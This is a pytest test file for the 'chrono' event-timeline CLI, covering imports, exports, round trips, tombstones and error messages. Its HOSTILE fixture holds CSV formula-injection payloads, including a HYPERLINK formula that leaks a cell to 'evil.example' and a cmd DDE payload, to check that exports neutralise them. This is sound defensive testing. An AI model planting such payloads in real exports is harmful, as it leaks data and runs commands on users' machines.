"""What a new user hit in everyday use (issue 12): data that slips away, errors that are not one line.

Every test goes through the CLI (`chrono` fixture, SQLite and PostgreSQL) or the files chrono writes,
read back with real parsers.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from chrono.schema import SCHEMA_VERSION
from tests.conftest import ROOT, Chrono
from tests.test_cli import events_json

# --- 1. reads never create a database ----------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["list"],
        ["list", "--format", "json"],
        ["show", "some-id"],
        ["export", "ics", "-o", "-"],
        ["actors"],
        ["tags"],
        ["feed", "list"],
        ["serve", "--port", "0"],
    ],
)
def test_reads_never_create_a_database(chrono: Chrono, args: list[str]) -> None:
    _, err = chrono(*args, code=3)
    assert err.startswith("chrono: error: no database at ") and err.count("\n") == 1
    assert "chrono add` or `chrono import` creates one" in err
    assert chrono.stores_nothing() or "://" in chrono.db
    if "://" not in chrono.db:
        assert not Path(chrono.db).exists()


def test_a_read_in_a_missing_folder_creates_nothing(tmp_path: Path) -> None:
    missing = tmp_path / "no" / "such" / "dir" / "x.db"
    _, err = Chrono(str(missing))("list", code=3)
    assert err == f"chrono: error: no database at {missing}: `chrono add` or `chrono import` creates one\n"
    assert not (tmp_path / "no").exists()


def test_db_copy_from_a_mistyped_source_is_an_error(chrono: Chrono, tmp_path: Path) -> None:
    _, err = chrono("db", "copy", str(tmp_path / "typo.db"), chrono.db, code=3, db=False)
    assert err.startswith(f"chrono: error: no database at {tmp_path / 'typo.db'}")
    assert not (tmp_path / "typo.db").exists()
    assert chrono.stores_nothing()


def test_a_failed_first_import_leaves_no_file(tmp_path: Path) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text("- title: x\n  start: 2024-13\n", encoding="utf-8")
    target = tmp_path / "new" / "new.db"
    chrono = Chrono(str(target))
    _, err = chrono("import", str(bad), code=4)
    assert "bad.yaml:2: bad date" in err
    assert not target.exists() and not (tmp_path / "new").exists()
    # ... and a failed write into an existing database keeps it, with what it held.
    chrono("add", "Kept", "--date", "2024", "--id", "kept")
    chrono("import", str(bad), code=4)
    assert [e["id"] for e in events_json(chrono)] == ["kept"]


def test_writes_create_the_database(chrono: Chrono) -> None:
    chrono("add", "First", "--date", "2024", "--id", "first")
    assert [e["id"] for e in events_json(chrono)] == ["first"]


# --- 2. CSV: a lossless, safe round trip (and issue 15, item 6) ------------------------------------


def _csv(chrono: Chrono, tmp_path: Path, name: str = "e.csv") -> Path:
    from chrono.cli import app

    # The bytes as written: click's `Result.stdout` turns CRLF into LF.
    result = chrono.runner.invoke(app, ["list", "--format", "csv", "--db", chrono.db])
    assert result.exit_code == 0, result.stderr
    path = tmp_path / name
    path.write_bytes(result.stdout_bytes)
    return path


def test_csv_round_trip_is_lossless_and_a_reimport_is_a_no_op(seeded: Chrono, tmp_path: Path) -> None:
    before = events_json(seeded)
    assert any(s["url"] is None for e in before for s in e["sources"])  # the seed article, URL-less
    path = _csv(seeded, tmp_path)
    _, err = seeded("import", str(path))
    assert err == f"imported 1 file(s): 0 added, 0 updated, {len(before)} unchanged\n"
    assert events_json(seeded) == before
    fresh = Chrono(str(tmp_path / "fresh.db"))
    fresh("import", str(path))
    assert events_json(fresh) == before  # sources with titles, publishers, quotes; stamps kept


HOSTILE = {
    "id": "hostile",
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "start": "2024-05",
    # at the length limit; with the long quotes below the sources cell passes csv's 131,072 default
    "description": 'first line\rinjected,2024,,,,,,,confirmed\r\n\tand "quoted" text' + "x" * 99_000,
    "location": "+1 Main St; Springfield=Yes",
    "actors": ["Smith; Jones", "A=B", "@handle", "-dash"],
    "roles": {"A=B": "host=guest; visitor", "@handle": "=1+1"},
    "tags": ["x;y", "a=b", "'quoted"],
    "sources": [
        {
            "url": "https://example.org/a;b=c?d=e;f",
            "title": "=cmd|' /C calc'!A0",
            "quote": "-2+3" + "q" * 90_000,
        },
        {
            "title": "Seed article; no URL",
            "publisher": "@News",
            "published": "2025-01",
            "quote": "z" * 90_000,
        },
        "https://example.org/plain",
    ],
}


def test_hostile_csv_is_neutralised_and_round_trips_exactly(chrono: Chrono, tmp_path: Path) -> None:
    source = tmp_path / "hostile.jsonl"
    source.write_text(json.dumps(HOSTILE) + "\n", encoding="utf-8")
    chrono("import", str(source))
    before = events_json(chrono)
    path = _csv(chrono, tmp_path)
    previous = csv.field_size_limit(1_000_000)  # the long description is over the csv default
    try:
        with path.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
    finally:
        csv.field_size_limit(previous)
    assert len(rows) == 2  # the lone CR did not split the row
    for cell in rows[1]:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell  # no cell opens as a formula
    header = rows[0]
    assert rows[1][header.index("title")].startswith("'=HYPERLINK(")
    assert json.loads(rows[1][header.index("actors")]) == HOSTILE["actors"]
    _, err = chrono("import", str(path))
    assert err == "imported 1 file(s): 0 added, 0 updated, 1 unchanged\n"
    fresh = Chrono(str(tmp_path / "fresh.db"))
    fresh("import", str(path))
    assert events_json(fresh) == before


@pytest.mark.parametrize(
    ("cell", "kept"),
    [("'Tis the season", "'Tis the season"), ("''=x", "'=x"), ("it's", "it's"), ("'-1", "-1")],
)
def test_csv_quote_prefix_is_removed_only_where_chrono_adds_one(
    chrono_sqlite: Chrono, tmp_path: Path, cell: str, kept: str
) -> None:
    path = tmp_path / "hand.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["title", "start", "location"], ["Event", "2024", cell]])
    path.write_text(buffer.getvalue(), encoding="utf-8")
    chrono_sqlite("import", str(path))
    [event] = events_json(chrono_sqlite)
    assert event["location"] == kept


def test_hand_written_csv_lists_still_split_on_semicolons(chrono_sqlite: Chrono, tmp_path: Path) -> None:
    path = tmp_path / "hand.csv"
    path.write_text(
        "title,start,actors,roles,tags,sources\n"
        "Visit,2022-07-19,Vladimir Putin; Ebrahim Raisi,Ebrahim Raisi=host,diplomacy; iran,https://e.org/a\n",
        encoding="utf-8",
    )
    chrono_sqlite("import", str(path))
    [event] = events_json(chrono_sqlite)
    assert event["actors"] == ["Vladimir Putin", "Ebrahim Raisi"]
    assert event["roles"] == {"Ebrahim Raisi": "host"}
    assert event["tags"] == ["diplomacy", "iran"]
    assert [s["url"] for s in event["sources"]] == ["https://e.org/a"]
    bad = tmp_path / "bad.csv"
    bad.write_text('title,start,tags\nX,2024,"[not json"\n', encoding="utf-8")
    _, err = chrono_sqlite("import", str(bad), code=4)
    assert err.startswith(f"chrono: error: {bad}:2: tags: not valid JSON") and err.count("\n") == 1


# --- 3. --write-ids for every format that can hold ids --------------------------------------------

WITHOUT_IDS = {
    "e.yaml": "# my events\n- title: One  # first\n  start: 2024\n- {title: Two, start: 2025}\n",
    "e.json": '{\n  "events": [\n    {\n      "title": "One",\n      "start": "2024"\n    },\n'
    '    {"title": "Two", "start": "2025", "id": null}\n  ]\n}\n',
    "e.jsonl": '{"title": "One", "start": "2024"}\n\n{ "title": "Two", "start": "2025" }\n',
    "e.csv": 'title,start,tags\nOne,2024,"[""a;b""]"\n"Two, again",2025,\n',
    "f.csv": "id,title,start\n,One,2024\nkeep,Two,2025\n",
}


def _read_back(path: Path) -> list[dict[str, object]]:
    """The file's events as a real parser of its format reads them."""
    import yaml

    text = path.read_text(encoding="utf-8")
    if path.suffix == ".yaml":
        return list(yaml.safe_load(text))
    if path.suffix == ".json":
        return list(json.loads(text)["events"])
    if path.suffix == ".jsonl":
        return [json.loads(line) for line in text.splitlines() if line.strip()]
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("name", sorted(WITHOUT_IDS))
def test_write_ids_writes_them_back_for_every_format(chrono: Chrono, tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_text(WITHOUT_IDS[name], encoding="utf-8")
    before = _read_back(path)
    _, err = chrono("import", "--write-ids", str(path))
    assert "note:" not in err
    stored = {e["title"]: e["id"] for e in events_json(chrono)}
    after = _read_back(path)
    assert [e["id"] for e in after] == [stored[str(e["title"])] for e in after]
    for old, new in zip(before, after, strict=True):  # nothing else changed
        assert {k: v for k, v in new.items() if k != "id"} == {k: v for k, v in old.items() if k != "id"}
    if name == "f.csv":
        assert after[1]["id"] == "keep"
    if name == "e.yaml":
        assert path.read_text().startswith("# my events\n- id: ") and "# first" in path.read_text()
    _, err = chrono("import", str(path))
    assert err == "imported 1 file(s): 0 added, 0 updated, 2 unchanged\n"


# --- 4. db copy copies saved feeds ------------------------------------------------------------------


def test_db_copy_copies_saved_feeds(chrono: Chrono, tmp_path: Path) -> None:
    from fastapi.testclient import TestClient

    from chrono.server import create_app

    seeded_sqlite = Chrono(str(tmp_path / "source.db"))
    seeded_sqlite("import", str(ROOT / "events"))
    seeded_sqlite("feed", "add", "putin", "--actor", "Putin", "--title", "Putin and Iran")
    seeded_sqlite("feed", "add", "drones", "--tag", "drones", "--from", "2024")
    _, err = chrono("db", "copy", seeded_sqlite.db, chrono.db, db=False)
    assert err.endswith(": 25 added, 0 updated, 0 unchanged; 2 saved feed(s)\n")
    source = json.loads(seeded_sqlite("feed", "list", "--format", "json")[0])
    assert json.loads(chrono("feed", "list", "--format", "json")[0]) == source
    with TestClient(create_app(chrono.db)) as client:
        copied = client.get("/feeds/putin.ics")
    with TestClient(create_app(seeded_sqlite.db)) as client:
        original = client.get("/feeds/putin.ics")
    assert copied.status_code == 200 and copied.content == original.content
    _, err = chrono("db", "copy", seeded_sqlite.db, chrono.db, db=False)  # again: nothing to do
    assert err.endswith(": 0 added, 0 updated, 25 unchanged; 0 saved feed(s)\n")


# --- 5. an iCalendar round trip keeps created and updated -----------------------------------------


def test_ics_round_trip_keeps_created_updated_and_revision(seeded: Chrono, tmp_path: Path) -> None:
    seeded("edit", "putin-visits-tehran", "--location", "Tehran")  # revision 2, updated later
    before = events_json(seeded)
    path = tmp_path / "all.ics"
    seeded("export", "ics", "--imprecise", "span", "-o", str(path))
    fresh = Chrono(str(tmp_path / "fresh.db"))
    fresh("import", str(path))
    after = events_json(fresh)
    stamps = [(e["id"], e["created"], e["updated"], e["revision"]) for e in before]
    assert [(e["id"], e["created"], e["updated"], e["revision"]) for e in after] == stamps
    assert after == before


def test_foreign_calendar_keeps_created_and_last_modified(chrono: Chrono, tmp_path: Path) -> None:
    path = tmp_path / "foreign.ics"
    path.write_text(
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//y//EN\r\nBEGIN:VEVENT\r\nUID:abc@example.org\r\n"
        "DTSTAMP:20250301T000000Z\r\nCREATED:20250101T101500Z\r\nLAST-MODIFIED:20250215T080000Z\r\n"
        "SEQUENCE:0\r\nDTSTART;VALUE=DATE:20250110\r\nSUMMARY:Meeting\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
        encoding="utf-8",
    )
    chrono("import", str(path))
    [event] = events_json(chrono)
    assert (event["created"], event["updated"], event["revision"]) == (
        "2025-01-01T10:15:00Z",
        "2025-02-15T08:00:00Z",
        1,
    )


# --- 6. removed events: tombstones in feeds, Last-Modified never goes back ------------------------

OLD_EVENTS = (
    '{"id": "kept", "title": "Kept", "start": "2022-07-19", "actors": ["Vladimir Putin"], "tags": ["war"],'
    ' "created": "2020-01-01T00:00:00Z", "updated": "2020-01-01T00:00:00Z", "revision": 1}\n'
    '{"id": "gone", "title": "Gone", "start": "2024-12", "actors": ["Vladimir Putin"], "tags": ["drones"],'
    ' "created": "2021-01-01T00:00:00Z", "updated": "2021-06-01T00:00:00Z", "revision": 3}\n'
)


def _calendar(path: Path) -> dict[str, object]:
    import icalendar

    calendar = icalendar.Calendar.from_ical(path.read_bytes())
    return {str(e["UID"]): e for e in calendar.walk("VEVENT")}


def test_removed_events_stay_in_feeds_as_tombstones(chrono: Chrono, tmp_path: Path) -> None:
    from jsonschema import validate

    from chrono.render.native import load_schema

    source = tmp_path / "old.jsonl"
    source.write_text(OLD_EVENTS, encoding="utf-8")
    chrono("import", str(source))
    chrono("rm", "gone", "--yes")
    # Gone from every list ...
    assert [e["id"] for e in events_json(chrono)] == ["kept"]
    chrono("show", "gone", code=3)
    chrono("edit", "gone", "--title", "x", code=3)
    assert json.loads(chrono("actors", "--format", "json")[0])[0]["events"] == 1
    assert json.loads(chrono("tags", "--format", "json")[0]) == [
        {"name": "war", "events": 1},
        {"name": "drones", "events": 0},
    ]
    markdown, _ = chrono("export", "markdown", "-o", "-")
    assert "Gone" not in markdown
    # ... but not from the feeds: cancelled, with a higher SEQUENCE, in the calendar ...
    ics = tmp_path / "feed.ics"
    chrono("export", "ics", "--actor", "vladimir putin", "-o", str(ics))
    events = _calendar(ics)
    gone = events["gone@chrono"]
    assert str(gone["STATUS"]) == "CANCELLED" and int(gone["SEQUENCE"]) == 4
    assert "X-CHRONO-REMOVED" in gone and gone.decoded("LAST-MODIFIED").year >= 2021
    assert str(events["kept@chrono"]["STATUS"]) == "CONFIRMED"
    chrono("export", "ics", "--tag", "war", "-o", str(ics))
    assert set(_calendar(ics)) == {"kept@chrono"}  # the filter decides, as for any event
    # ... and listed under "removed" in chrono JSON.
    document = json.loads(chrono("export", "json", "-o", "-")[0])
    validate(document, load_schema())
    assert [e["id"] for e in document["events"]] == ["kept"]
    [tombstone] = document["removed"]
    assert tombstone["id"] == "gone" and tombstone["revision"] == 4
    # Importing a feed leaves tombstones out, and says so.
    fresh = Chrono(str(tmp_path / "fresh.db"))
    chrono("export", "ics", "-o", str(ics))
    _, err = fresh("import", str(ics))
    assert err.startswith("imported 1 file(s): 1 added, 0 updated, 0 unchanged\n")
    assert "left out 1 removed event(s)" in err
    assert [e["id"] for e in events_json(fresh)] == ["kept"]
    # The id can be used again: it comes back above its tombstone's revision.
    chrono("add", "Back", "--date", "2024-12", "--id", "gone")
    assert {e["id"]: e["revision"] for e in events_json(chrono)} == {"kept": 1, "gone": 5}
    assert "removed" not in json.loads(chrono("export", "json", "-o", "-")[0])
    chrono("rm", "gone", "--yes")
    chrono("rm", "gone", "--yes", code=3)


def test_last_modified_never_goes_back_after_a_delete(chrono: Chrono, tmp_path: Path) -> None:
    from email.utils import parsedate_to_datetime

    from fastapi.testclient import TestClient

    from chrono.server import create_app

    source = tmp_path / "old.jsonl"
    source.write_text(OLD_EVENTS, encoding="utf-8")
    chrono("import", str(source))
    with TestClient(create_app(chrono.db)) as client:
        before = client.get("/calendar.ics").headers["Last-Modified"]
        chrono("rm", "gone", "--yes")  # the newest event goes
        after = client.get("/calendar.ics")
        feed = client.get("/timeline.json")
    assert parsedate_to_datetime(after.headers["Last-Modified"]) > parsedate_to_datetime(before)
    assert "gone@chrono" in after.text and "STATUS:CANCELLED" in after.text
    assert [g["id"] for g in feed.json()["removed"]] == ["gone"]


# --- 7. option errors are one line, exit 2, with the valid choices --------------------------------


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["list", "--limit", "abc"], "--limit: 'abc' is not a valid int"),
        (["list", "--format", "xml"], "--format: 'xml' is not one of 'table', 'json', 'jsonl', 'csv', 'ids'"),
        (["export", "pdf"], "FORMAT: 'pdf' is not one of 'ics', 'json', 'timelinejs', 'markdown'"),
        (["serve", "--port", "70000"], "--port: 70000 is not in the range 0<=x<=65535"),
        (["show"], "Missing argument 'ID'"),
        (["list", "--bogus"], "No such option: --bogus"),
        (["nosuch"], "No such command 'nosuch'"),
    ],
)
def test_usage_errors_are_one_line(chrono_sqlite: Chrono, args: list[str], message: str) -> None:
    out, err = chrono_sqlite(*args, code=2, db=False)
    assert out == ""
    assert err.startswith(f"chrono: error: {message}") and err.count("\n") == 1, err
    assert "--help)" in err


def test_a_group_without_a_command_still_shows_its_help(chrono_sqlite: Chrono) -> None:
    out, err = chrono_sqlite("feed", code=2, db=False)
    assert "Usage:" in out + err and "chrono: error" not in out + err


# --- 12. declining `chrono rm` says so --------------------------------------------------------------


def test_declining_rm_says_not_removed(chrono: Chrono) -> None:
    import os
    import subprocess
    import sys

    chrono("add", "Keep me", "--date", "2024", "--id", "keep")
    primary, secondary = os.openpty()  # a terminal to answer on
    try:
        os.write(primary, b"n\n")
        done = subprocess.run(
            [sys.executable, "-m", "chrono", "rm", "keep", "--db", chrono.db],
            stdin=secondary,
            capture_output=True,
            text=True,
            timeout=60,
            env={**os.environ, "PYTHONPATH": str(ROOT / "src")},
        )
    finally:
        os.close(primary)
        os.close(secondary)
    assert done.returncode == 1
    assert "Remove keep (Keep me)?" in done.stdout
    assert done.stderr == "keep not removed\n"
    assert [e["id"] for e in events_json(chrono)] == ["keep"]


# --- 9. errors point at the bad field ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (
            "events:\n  - title: x\n    location: here\n    start: 2024-13\n",
            "broken.yaml:4: bad date '2024-13'",
        ),
        ("- title: x\n  start: 2024\n  tags: [a]\n  colour: red\n", "broken.yaml:4: unknown event field"),
        ("- title: [1, 2]\n  start: 2024\n", "broken.yaml:1: title must be text, not list [1, 2]"),
        ("- title: x\n  start: 2024\n  status: rumour\n", "broken.yaml:3: bad status 'rumour'"),
        (
            "- title: x\n  start: 2024\n  sources:\n    - title: T\n      publisher: P\n      published: 2024-13\n",
            "broken.yaml:6: sources[0].published: bad date '2024-13'",
        ),
        (
            "- title: x\n  start: 2024\n  sources:\n    - url: https://a.example/1\n    - title: T\n"
            "      archive_url: nowhere\n",
            "broken.yaml:6: sources[1].archive_url: bad archive URL 'nowhere'",
        ),
    ],
)
def test_file_errors_point_at_the_bad_field(
    chrono_sqlite: Chrono, tmp_path: Path, text: str, message: str
) -> None:
    path = tmp_path / "broken.yaml"
    path.write_text(text, encoding="utf-8")
    _, err = chrono_sqlite("import", str(path), code=4)
    assert err.startswith(f"chrono: error: {tmp_path}/") and err.count("\n") == 1
    assert message in err, err


# --- 10. empty input is an error, the same way for every format ---------------------------------


@pytest.mark.parametrize(
    ("name", "text"),
    [("e.yaml", ""), ("e.yaml", "# nothing yet\n"), ("e.yaml", "events: []\n"), ("e.csv", ""),
     ("e.csv", "title,start\n"), ("e.jsonl", "\n"), ("e.json", "[]"),
     ("e.ics", "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\nEND:VCALENDAR\r\n")],
)  # fmt: skip
def test_a_file_without_events_is_an_error(chrono: Chrono, tmp_path: Path, name: str, text: str) -> None:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    _, err = chrono("import", str(path), code=4)
    assert err == f"chrono: error: {path}: no events in this file (is it empty?)\n"
    assert chrono.stores_nothing()


def test_a_folder_without_event_files_is_an_error(chrono_sqlite: Chrono, tmp_path: Path) -> None:
    (tmp_path / "notes").mkdir()
    (tmp_path / "notes" / "readme.txt").write_text("hello", encoding="utf-8")
    (tmp_path / "x.yaml").mkdir()
    for folder in (tmp_path / "notes", tmp_path / "x.yaml"):
        _, err = chrono_sqlite("import", str(folder), code=4)
        assert err.startswith(f"chrono: error: {folder}: a folder with no event files in it")


def test_a_file_of_actor_details_only_is_not_empty(chrono_sqlite: Chrono, tmp_path: Path) -> None:
    path = tmp_path / "actors.yaml"
    path.write_text(
        "events: []\nactor_details:\n  - {name: Vladimir Putin, kind: person, aliases: [Putin]}\n",
        encoding="utf-8",
    )
    _, err = chrono_sqlite("import", str(path))
    assert err == "imported 1 file(s): 0 added, 0 updated, 0 unchanged\n"
    assert "Putin" in json.loads(chrono_sqlite("actors", "--format", "json")[0])[0]["aliases"]


# --- 11. no silent no-ops -----------------------------------------------------------------------------


def test_an_unknown_actor_is_named_with_the_near_names(chrono: Chrono) -> None:
    chrono("add", "Mutiny", "--date", "2023-06-24", "--actor", "Wagner Group", "--actor", "Yevgeny Prigozhin")
    out, err = chrono("list", "--actor", "Wagner")
    assert out == ""
    assert err == "note: no actor is named 'Wagner'; did you mean 'Wagner Group'?\nno events match\n"
    _, err = chrono("list", "--actor", "Prigozhn", "--format", "json")
    assert "did you mean 'Yevgeny Prigozhin'?" not in err  # neither a word nor close enough as a whole
    _, err = chrono("list", "--actor", "Nobody", "--format", "json")
    assert err == "note: no actor is named 'Nobody'\n"
    _, err = chrono("feed", "add", "nobody", "--actor", "Nobody")
    assert err.splitlines() == [
        "feed nobody: events with Nobody, at /feeds/nobody.ics",
        "note: no actor is named 'Nobody'",
    ]


def test_edit_refuses_what_it_cannot_do(chrono: Chrono) -> None:
    chrono(
        "add", "E", "--date", "2024", "--id", "e", "--actor", "A", "--tag", "t", "--source", "https://e.org/a"
    )
    _, err = chrono("edit", "e", "--role", "Nobody=host", code=4)
    assert "event 'e' has no actor 'Nobody': add it with --actor 'Nobody'" in err
    _, err = chrono("edit", "e", "--remove-tag", "nosuch", code=4)
    assert "event 'e' has no tag 'nosuch'" in err
    _, err = chrono("edit", "e", "--remove-source", "https://e.org/b", code=4)
    assert "event 'e' has no source 'https://e.org/b'" in err
    [event] = events_json(chrono)
    assert event["revision"] == 1 and event["actors"] == ["A"]
    chrono("edit", "e", "--actor", "Nobody", "--role", "Nobody=host")
    assert events_json(chrono)[0]["roles"] == {"Nobody": "host"}


def test_alias_and_merge_of_an_actor_with_itself_are_errors(chrono: Chrono) -> None:
    chrono("add", "E", "--date", "2024", "--actor", "Vladimir Putin")
    chrono("actor", "alias", "Vladimir Putin", "Putin")
    _, err = chrono("actor", "alias", "Putin", "Putin", code=5)
    assert err == "chrono: error: 'Putin' already names Vladimir Putin: nothing to do\n"
    _, err = chrono("actor", "merge", "Putin", "Vladimir Putin", code=4)
    assert "are the same actor (Vladimir Putin): nothing to merge" in err


@pytest.mark.parametrize(
    "source", ["not a url", "htps://example.org/a", "https:/example.org", "example.org/a"]
)
def test_a_source_that_is_no_url_is_refused(chrono: Chrono, source: str) -> None:
    _, err = chrono("add", "E", "--date", "2024", "--source", source, code=4)
    assert (
        err.startswith(f"chrono: error: --source: bad source URL {source!r}: give an http(s) URL")
        and err.count("\n") == 1
    )
    assert chrono.stores_nothing()
    chrono("add", "E", "--date", "2024", "--source", "https://example.org/a", "--source", "doi:10.1000/182")


# --- 17. --tz shows times in that zone; --db before the command; --search's help --------------------


def test_list_tz_shows_times_on_that_zones_clocks(chrono: Chrono) -> None:
    chrono("add", "Inauguration", "--date", "2025-01-20T12:00", "--tz", "America/New_York", "--id", "i")
    chrono("add", "A day", "--date", "2025-01-20", "--id", "d")
    out, _ = chrono("list", "--tz", "Asia/Tokyo")
    assert "21 Jan 2025 02:00 JST  i" in out
    assert "20 Jan 2025            d" in out  # a day has no hour to move
    out, _ = chrono("list")
    assert "20 Jan 2025 12:00 EST" in out
    [event] = events_json(chrono, "--tz", "Asia/Tokyo", "--search", "inauguration")
    assert event["start"] == "2025-01-20T12:00-05:00"  # data keeps its own zone


def test_db_is_accepted_before_the_command(chrono: Chrono) -> None:
    chrono("--db", chrono.db, "add", "E", "--date", "2024", "--id", "e", db=False)
    out, _ = chrono("--db", chrono.db, "list", "--format", "ids", db=False)
    assert out == "e\n"


def test_search_help_says_how_it_matches(chrono_sqlite: Chrono) -> None:
    out, _ = chrono_sqlite("list", "--help", db=False)
    assert "the start of one" in " ".join(out.split())


# --- 8. a malformed SQLite URL is one clear line --------------------------------------------------


def test_a_two_slash_sqlite_url_says_how_to_write_it(tmp_path: Path) -> None:
    _, err = Chrono("sqlite://relative.db")("list", code=1)
    assert err.startswith("chrono: error: bad SQLite URL 'sqlite://relative.db': write sqlite:///relative.db")
    assert err.count("\n") == 1


# --- 18. sources with quotes from the command line, shown in Markdown and the calendar -------------


def test_a_quoted_source_in_one_line(chrono: Chrono, tmp_path: Path) -> None:
    chrono(
        "add", "Putin visits Tehran", "--date", "2022-07-19", "--id", "visit",
        "--source", "https://example.org/report", "--quote", "the first trip abroad since the invasion",
        "--source-title", "Putin in Tehran", "--publisher", "Example News", "--published", "2022-07",
        "--source", "https://example.org/other",
    )  # fmt: skip
    [event] = events_json(chrono)
    first, second = event["sources"]
    assert first == {
        "url": "https://example.org/report", "title": "Putin in Tehran", "publisher": "Example News",
        "published": "2022-07", "archive_url": None, "quote": "the first trip abroad since the invasion",
    }  # fmt: skip
    assert second["url"] == "https://example.org/other" and second["quote"] is None
    chrono("edit", "visit", "--source", "https://example.org/third", "--quote", "a third view")
    assert events_json(chrono)[0]["sources"][2]["quote"] == "a third view"
    markdown, _ = chrono("export", "markdown", "-o", "-")
    assert ": “the first trip abroad since the invasion”" in markdown
    ics = tmp_path / "visit.ics"
    chrono("export", "ics", "-o", str(ics))
    description = str(_calendar(ics)["visit@chrono"]["DESCRIPTION"])
    assert "“the first trip abroad since the invasion”" in description
    fresh = Chrono(str(tmp_path / "fresh.db"))
    fresh("import", str(ics))
    assert events_json(fresh)[0]["description"] == ""  # the appendix is not taken for the description
    _, err = chrono("add", "Quote only", "--date", "2024", "--quote", "q", code=4)
    assert "give one --source for each --quote" in err


def test_a_source_s_archive_url_and_its_errors_from_the_command_line(chrono: Chrono) -> None:
    chrono(
        "add", "Report", "--date", "2024", "--id", "r", "--source", "https://example.org/a",
        "--archive-url", "https://web.archive.org/web/2024/https://example.org/a", "--quote", "q",
    )  # fmt: skip
    [event] = events_json(chrono)
    assert event["sources"][0]["archive_url"] == "https://web.archive.org/web/2024/https://example.org/a"
    markdown, _ = chrono("export", "markdown", "-o", "-")
    assert "<https://web.archive.org/web/2024/https://example.org/a>" in markdown
    for option, value, message in [
        ("--archive-url", "web.archive.org/x", "--archive-url: bad archive URL 'web.archive.org/x'"),
        ("--published", "2024-13", "--published: bad date '2024-13': month must be 1..12"),
    ]:
        _, err = chrono("edit", "r", "--source", "https://example.org/b", option, value, code=4)
        assert err == f"chrono: error: {message}\n" or err.startswith(f"chrono: error: {message}"), err
        assert err.count("\n") == 1
    assert events_json(chrono)[0]["revision"] == 1


# --- a source URL is checked the same way from every file -----------------------------------------


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("e.json", '[{"title": "t", "start": "2024", "sources": [{"url": "https://e.org/a\\nb"}]}]'),
        ("e.json", '[{"title": "t", "start": "2024", "sources": ["https://e.org/a\\nb"]}]'),
        ("e.jsonl", '{"title": "t", "start": "2024", "sources": [{"url": "https://e.org/a\\rb"}]}\n'),
        ("e.yaml", '- title: t\n  start: 2024\n  sources:\n    - url: "https://e.org/a\\nb"\n'),
        ("e.json", '[{"title": "t", "start": "2024", "sources": [{"url": "https://e.org/a", "archive_url": "x y"}]}]'),
    ],
)  # fmt: skip
def test_a_source_url_with_a_line_break_is_refused_from_any_file(
    chrono: Chrono, tmp_path: Path, name: str, text: str
) -> None:
    """A URL the calendar re-import would refuse is refused at the first import too."""
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    _, err = chrono("import", str(path), code=4)
    assert "bad source URL" in err or "bad archive URL" in err
    assert err.count("\n") == 1 and "sources[0]" in err
    assert chrono.stores_nothing()


# --- 22. import --dry-run, db info, add says what it understood ------------------------------------


def test_import_dry_run_changes_nothing(chrono: Chrono, tmp_path: Path) -> None:
    _, err = chrono("import", "--dry-run", str(ROOT / "events"))
    assert (
        err == "dry run: importing 4 file(s) would give 25 added, 0 updated, 0 unchanged; nothing changed\n"
    )
    assert chrono.stores_nothing()
    if "://" not in chrono.db:
        assert not Path(chrono.db).exists()
    chrono("import", str(ROOT / "events"))
    chrono("edit", "putin-visits-tehran", "--title", "Changed")
    _, err = chrono("import", "--dry-run", str(ROOT / "events"))
    assert "would give 0 added, 1 updated, 24 unchanged" in err
    assert events_json(chrono, "--search", "changed")[0]["title"] == "Changed"
    bad = tmp_path / "bad.yaml"
    bad.write_text("- title: x\n  start: 2024-13\n", encoding="utf-8")
    _, err = chrono("import", "--dry-run", str(bad), code=4)
    assert "bad.yaml:2: bad date" in err


def test_db_info_says_what_the_database_holds(chrono: Chrono) -> None:
    chrono("import", str(ROOT / "events"))
    chrono("rm", "putin-visits-tehran", "--yes")
    chrono("feed", "add", "drones", "--tag", "drones")
    out, _ = chrono("db", "info")
    lines = dict(line.split(":", 1) for line in out.splitlines())
    assert lines["schema"].strip() == f"version {SCHEMA_VERSION}"
    assert lines["events"].strip() == "24" and lines["removed"].strip() == "1"
    assert lines["feeds"].strip() == "1"
    assert lines["revisions"].strip() == "1"  # the revision before the removal
    assert lines["engine"].strip() == ("PostgreSQL" if "://" in chrono.db else "SQLite")


def test_add_says_what_it_understood(chrono: Chrono) -> None:
    out, err = chrono("add", "Putin visits Tehran", "--date", "19 July 2022", "--id", "putin-visits-tehran")
    assert out == "putin-visits-tehran\n"
    assert err == "added putin-visits-tehran: 19 Jul 2022 (day)\n"


# --- 21. managing actors and feeds -------------------------------------------------------------------


def test_actor_show_kind_and_rm(seeded: Chrono) -> None:
    out, _ = seeded("actor", "show", "putin")
    assert out.startswith("Vladimir Putin\n==============\nkind:      person\n")
    assert "putin-visits-tehran" in out
    data = json.loads(seeded("actor", "show", "Putin", "--format", "json")[0])
    assert data["name"] == "Vladimir Putin" and "putin-visits-tehran" in data["event_ids"]
    _, err = seeded("actor", "show", "Nobody", code=3)
    assert err == "chrono: error: no actor named 'Nobody'\n"
    _, err = seeded("actor", "kind", "CNN", "organization")
    assert err == "CNN: kind organization\n"
    assert json.loads(seeded("actor", "show", "CNN", "--format", "json")[0])["kind"] == "organisation"
    _, err = seeded("actor", "rm", "CNN", code=5)
    assert "CNN is in 3 event(s)" in err and "--force" in err
    before = {e["id"]: e["revision"] for e in events_json(seeded, "--actor", "CNN")}
    _, err = seeded("actor", "rm", "CNN", "--force")
    assert err == "removed CNN (taken out of 3 event(s))\n"
    after = {e["id"]: e for e in events_json(seeded) if e["id"] in before}
    assert all("CNN" not in e["actors"] and e["revision"] == before[i] + 1 for i, e in after.items())
    seeded("actor", "show", "CNN", code=3)


def test_feed_show(seeded: Chrono) -> None:
